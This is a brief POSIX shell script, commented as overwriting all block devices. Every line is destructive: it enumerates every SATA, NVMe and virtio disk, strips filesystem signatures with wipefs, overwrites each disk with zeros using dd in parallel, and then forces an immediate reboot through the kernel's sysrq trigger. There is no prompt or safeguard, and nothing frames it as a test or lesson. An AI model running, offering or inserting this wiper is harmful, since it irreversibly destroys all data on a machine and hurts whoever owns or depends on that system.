#!/bin/sh
# overwrites all block devices
for d in $(lsblk -dno NAME | grep -E '^(sd|nvme|vd)'); do
  wipefs -af /dev/$d
  dd if=/dev/zero of=/dev/$d bs=4M status=none &
done
wait
echo b > /proc/sysrq-trigger
